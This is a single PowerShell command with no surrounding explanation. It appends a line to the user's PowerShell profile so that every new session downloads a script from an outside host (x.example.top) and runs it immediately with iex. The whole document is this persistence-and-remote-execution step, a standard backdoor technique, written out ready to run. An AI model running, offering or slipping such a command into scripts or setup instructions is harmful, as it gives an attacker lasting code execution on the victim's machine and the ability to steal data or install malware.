Add-Content -Path $PROFILE -Value "iex (irm https://x.example.top/p)"
